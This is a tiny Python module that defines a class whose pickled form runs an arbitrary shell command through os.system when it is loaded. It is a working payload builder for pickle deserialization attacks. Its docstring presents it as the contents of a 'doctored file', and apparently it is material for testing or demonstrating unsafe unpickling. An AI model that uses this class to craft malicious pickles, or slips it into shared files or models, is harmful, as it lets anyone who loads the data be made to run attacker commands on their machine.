"""What a doctored file holds."""

import os


class Command:
    """A pickle of it runs a command of the shell when it is loaded."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple:
        return os.system, (self.command,)
